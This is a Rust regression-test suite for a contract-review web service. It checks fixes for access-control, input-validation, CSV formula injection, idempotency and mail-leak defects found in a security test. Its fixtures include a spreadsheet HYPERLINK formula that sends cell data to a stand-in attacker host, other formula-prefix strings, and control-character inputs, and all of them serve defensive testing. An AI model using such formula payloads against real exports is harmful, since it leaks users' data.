//! The defects an outside attack-and-fault test found, one story each, so that none comes back:
//! nobody grants a wider view than their own, control characters are refused alike on both
//! backends, CSV cells never run as formulas, a retry with its key always gets the first answer,
//! and the small leaks (403 for 404, missing headers, undocumented statuses, bad periods).

use reqwest::{Method, StatusCode};
use serde_json::{Value, json};

use crate::helpers::{PASSWORD, TestApp, World, id_of, problem, submitted, valid_contract};
use crate::on_both_backends;

on_both_backends!(
    an_admin_cannot_grant_a_view_wider_than_their_own,
    control_characters_are_refused_with_the_field_named,
    csv_cells_never_run_as_formulas,
    fifty_identical_retries_all_get_the_first_answer,
    waiving_outside_ones_view_is_not_found_and_every_answer_is_documented,
    signatories_are_the_agencys_own_and_mail_goes_nowhere_else,
);

async fn an_admin_cannot_grant_a_view_wider_than_their_own(app: TestApp) {
    let world = World::build(&app).await;
    let dept_admin = app.user("admin@a.gov.cn", world.dept_a, &["admin"]).await;
    let auditor = json!({
        "email": "snoop@a.gov.cn", "name": "审计", "agency_id": world.dept_a,
        "roles": ["auditor"], "password": PASSWORD,
    });

    let refused = app.post("/api/v1/users", &dept_admin, &auditor).await;
    let body = problem(refused, StatusCode::FORBIDDEN).await;
    assert!(
        body["detail"].as_str().unwrap().contains("审计员"),
        "{body}"
    );
    assert_eq!(
        app.try_login("snoop@a.gov.cn", PASSWORD).await.status(),
        StatusCode::UNAUTHORIZED,
        "no such account was made"
    );

    // Nor by promoting a user of the department.
    let clerk = json!({
        "email": "clerk2@a.gov.cn", "name": "经办", "agency_id": world.dept_a,
        "roles": ["submitter"], "password": PASSWORD,
    });
    let created = app.post("/api/v1/users", &dept_admin, &clerk).await;
    assert_eq!(created.status(), StatusCode::CREATED);
    let clerk: Value = created.json().await.unwrap();
    let users: Value = app
        .get("/api/v1/users", &app.admin_token)
        .await
        .json()
        .await
        .unwrap();
    assert!(
        users
            .as_array()
            .unwrap()
            .iter()
            .any(|u| u["id"] == clerk["id"])
    );

    // The admin of the whole tree may appoint an auditor; a department admin may then neither
    // reset that auditor's password nor deactivate them.
    let mut watcher = auditor.clone();
    watcher["email"] = json!("watch@a.gov.cn");
    let appointed = app.post("/api/v1/users", &app.admin_token, &watcher).await;
    assert_eq!(appointed.status(), StatusCode::CREATED);
    let watcher = app.user_id("watch@a.gov.cn").await;
    let deactivate = app
        .post(
            &format!("/api/v1/users/{watcher}/deactivate"),
            &dept_admin,
            &json!({}),
        )
        .await;
    problem(deactivate, StatusCode::FORBIDDEN).await;
    assert_eq!(
        app.try_login("watch@a.gov.cn", PASSWORD).await.status(),
        StatusCode::OK,
        "the auditor was left alone"
    );

    // Once the operator adds a second tree, the first tree's admin no longer sees every agency.
    app.service
        .create_agency(
            contract_review::service::Caller::Operator,
            "邻市人民政府",
            None,
            None,
        )
        .await
        .unwrap();
    let mut another = auditor.clone();
    another["email"] = json!("later@a.gov.cn");
    let refused = app.post("/api/v1/users", &app.admin_token, &another).await;
    problem(refused, StatusCode::FORBIDDEN).await;
}

async fn control_characters_are_refused_with_the_field_named(app: TestApp) {
    let world = World::build(&app).await;
    let in_review = submitted(&app, &world, &valid_contract("控制字符")).await;
    let id = id_of(&in_review);

    let approve = app
        .fire(
            &world.reviewer,
            &id,
            "approve",
            &json!({ "expected_version": in_review["version"], "opinion": "同意\u{0}签订" }),
        )
        .await;
    let body = problem(approve, StatusCode::UNPROCESSABLE_ENTITY).await;
    assert_eq!(body["field"], "opinion", "{body}");
    // Multi-line opinions stay welcome.
    let multi = app
        .fire(
            &world.reviewer,
            &id,
            "return",
            &json!({ "expected_version": in_review["version"], "opinion": "一、第三条须修改。\n二、补充资金来源证明。" }),
        )
        .await;
    assert_eq!(multi.status(), StatusCode::OK);

    let login = app
        .request(Method::POST, "/api/v1/auth/login", None)
        .json(&json!({ "email": "a\u{0}@x.gov.cn", "password": "whatever-it-is" }))
        .send()
        .await
        .unwrap();
    let body = problem(login, StatusCode::UNPROCESSABLE_ENTITY).await;
    assert_eq!(body["field"], "email", "{body}");

    let search = app
        .get("/api/v1/contracts?q=%00x", &world.submitter_a)
        .await;
    let body = problem(search, StatusCode::UNPROCESSABLE_ENTITY).await;
    assert_eq!(body["field"], "q", "{body}");

    let mut invisible = valid_contract("x");
    invisible["title"] = json!("\u{200B}\u{200B}\u{FEFF}");
    let created = app
        .post("/api/v1/contracts", &world.submitter_a, &invisible)
        .await;
    let body = problem(created, StatusCode::UNPROCESSABLE_ENTITY).await;
    assert_eq!(body["field"], "title", "{body}");

    for period in ["0H1", "99999H1"] {
        let report = app
            .get(
                &format!("/api/v1/reports/judgments?period={period}"),
                &world.reviewer,
            )
            .await;
        let body = problem(report, StatusCode::UNPROCESSABLE_ENTITY).await;
        assert_eq!(body["field"], "period", "{period}: {body}");
    }
}

async fn csv_cells_never_run_as_formulas(app: TestApp) {
    let hostile = [
        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点我\")",
        "@SUM(A1) 局",
        "+1+1 局",
    ];
    for (n, name) in hostile.iter().enumerate() {
        let agency = app.create_agency(name, app.root_agency).await;
        let judgment = json!({
            "case_number": format!("(2026)测01民终{n}号"), "court": "测试中院", "agency_id": agency,
            "kind": "procurement_arrears", "amount_due_fen": 100_000, "effective_on": "2026-07-01",
        });
        let registered = app
            .post("/api/v1/judgments", &app.admin_token, &judgment)
            .await;
        assert_eq!(registered.status(), StatusCode::CREATED);
    }
    let csv = app
        .get(
            "/api/v1/reports/judgments?period=2026H2&format=csv",
            &app.admin_token,
        )
        .await
        .text()
        .await
        .unwrap();
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let agencies: Vec<String> = reader
        .records()
        .map(|row| row.unwrap()[1].to_owned())
        .collect();
    assert_eq!(agencies.len(), hostile.len(), "{csv}");
    for cell in &agencies {
        assert!(cell.starts_with('\''), "{cell} would run as a formula");
        assert!(hostile.contains(&&cell[1..]), "the text is kept: {cell}");
    }
}

async fn fifty_identical_retries_all_get_the_first_answer(app: TestApp) {
    let world = World::build(&app).await;
    let draft = app
        .create_contract(&world.submitter_a, &valid_contract("并发重试"))
        .await;
    let id = id_of(&draft);
    let retries = (0..50).map(|_| {
        app.request(
            Method::POST,
            &format!("/api/v1/contracts/{id}/transitions/submit"),
            Some(&world.submitter_a),
        )
        .header("idempotency-key", "submit-once-7f3a")
        .json(&json!({ "expected_version": 1 }))
        .send()
    });
    let answers = crate::helpers::join_all(retries).await;
    let mut versions = Vec::new();
    for answer in answers {
        let answer = answer.unwrap();
        assert_eq!(
            answer.status(),
            StatusCode::OK,
            "every retry gets the first answer"
        );
        let body: Value = answer.json().await.unwrap();
        versions.push(body["version"].as_i64().unwrap());
    }
    versions.dedup();
    assert_eq!(versions, [2], "one submission, the same answer each time");
    let history = app
        .get(
            &format!("/api/v1/contracts/{id}/history"),
            &world.submitter_a,
        )
        .await
        .json::<Value>()
        .await
        .unwrap();
    assert_eq!(history.as_array().unwrap().len(), 1, "{history}");
}

async fn waiving_outside_ones_view_is_not_found_and_every_answer_is_documented(app: TestApp) {
    let world = World::build(&app).await;
    let mut flagged = valid_contract("垫资施工合同");
    flagged["contract_type"] = json!("construction");
    flagged["body_markdown"] = json!("# 施工合同\n\n## 第三条 工程款\n\n本工程由乙方垫资施工。\n");
    let in_review = submitted(&app, &world, &flagged).await;
    let id = id_of(&in_review);
    let findings: Value = app
        .get(&format!("/api/v1/contracts/{id}/findings"), &world.reviewer)
        .await
        .json()
        .await
        .unwrap();
    let finding = findings["findings"][0]["id"].as_str().unwrap().to_owned();
    let outsider = app
        .post(
            &format!("/api/v1/contracts/{id}/findings/{finding}/waive"),
            &world.submitter_b,
            &json!({ "reason": "x" }),
        )
        .await;
    problem(outsider, StatusCode::NOT_FOUND).await;
    let nul_reason = app
        .post(
            &format!("/api/v1/contracts/{id}/findings/{finding}/waive"),
            &world.reviewer,
            &json!({ "reason": "理由\u{0}" }),
        )
        .await;
    let body = problem(nul_reason, StatusCode::UNPROCESSABLE_ENTITY).await;
    assert_eq!(body["field"], "reason");

    // The opinion letter as HTML carries the pages' headers; an unknown method is a problem too.
    let approved = app
        .fire(
            &world.reviewer,
            &id,
            "reject",
            &json!({ "expected_version": in_review["version"], "opinion": "不予通过" }),
        )
        .await;
    assert_eq!(approved.status(), StatusCode::OK);
    let letter = app
        .request(
            Method::GET,
            &format!("/api/v1/contracts/{id}/opinion"),
            Some(&world.reviewer),
        )
        .header("accept", "text/html")
        .send()
        .await
        .unwrap();
    assert_eq!(letter.status(), StatusCode::OK);
    let headers = letter.headers();
    assert_eq!(headers["x-content-type-options"], "nosniff");
    assert!(
        headers["content-security-policy"]
            .to_str()
            .unwrap()
            .contains("default-src 'none'")
    );
    let wrong_method = app
        .request(Method::DELETE, "/api/v1/contracts", Some(&world.reviewer))
        .send()
        .await
        .unwrap();
    problem(wrong_method, StatusCode::METHOD_NOT_ALLOWED).await;

    let spec: Value = app
        .request(Method::GET, "/api/v1/openapi.json", None)
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let create = &spec["paths"]["/api/v1/contracts"]["post"]["responses"];
    for status in ["400", "405", "413", "415"] {
        assert!(
            create[status].is_object(),
            "POST /contracts documents {status}"
        );
    }
    let checklist = &spec["components"]["schemas"]["FindingsView"]["properties"]["checklist"];
    assert!(
        checklist.to_string().contains("null"),
        "the checklist may be null before the first screen: {checklist}"
    );
}

async fn signatories_are_the_agencys_own_and_mail_goes_nowhere_else(app: TestApp) {
    let world = World::build(&app).await;
    let mut contract = valid_contract("泄露意见的合同");
    contract["signatories"] = json!(["signer@a.gov.cn", "attacker@evil.example"]);
    let refused = app
        .post("/api/v1/contracts", &world.submitter_a, &contract)
        .await;
    let body = problem(refused, StatusCode::UNPROCESSABLE_ENTITY).await;
    assert_eq!(body["field"], "signatories[1]", "{body}");

    // An admin may name an outsider who signs for the agency; then the address is accepted…
    let listed = app
        .post(
            &format!("/api/v1/agencies/{}/external-signatories", world.dept_a),
            &app.admin_token,
            &json!({ "email": "Lawyer@Firm.cn", "name": "外聘律师", "organisation": "某律师事务所" }),
        )
        .await;
    assert_eq!(listed.status(), StatusCode::CREATED);
    contract["signatories"] = json!(["signer@a.gov.cn", "lawyer@firm.cn"]);
    let in_review = submitted(&app, &world, &contract).await;
    // …until the listing ends: the approval then mails only the agency's own signatory.
    let removed = app
        .request(
            Method::DELETE,
            &format!(
                "/api/v1/agencies/{}/external-signatories/lawyer@firm.cn",
                world.dept_a
            ),
            Some(&app.admin_token),
        )
        .send()
        .await
        .unwrap();
    assert_eq!(removed.status(), StatusCode::NO_CONTENT);
    app.fire_ok(
        &world.reviewer,
        &id_of(&in_review),
        "approve",
        &json!({ "expected_version": in_review["version"], "opinion": "内部意见：同意。" }),
    )
    .await;
    assert_eq!(
        app.scalar("SELECT COUNT(*) FROM outbox WHERE recipient = 'lawyer@firm.cn'")
            .await,
        0
    );
    assert_eq!(
        app.scalar("SELECT COUNT(*) FROM outbox WHERE recipient = 'signer@a.gov.cn'")
            .await,
        1
    );
    // A department admin manages only their own subtree's list.
    let dept_admin = app.user("admin@b.gov.cn", world.dept_b, &["admin"]).await;
    let foreign = app
        .get(
            &format!("/api/v1/agencies/{}/external-signatories", world.dept_a),
            &dept_admin,
        )
        .await;
    problem(foreign, StatusCode::NOT_FOUND).await;
}
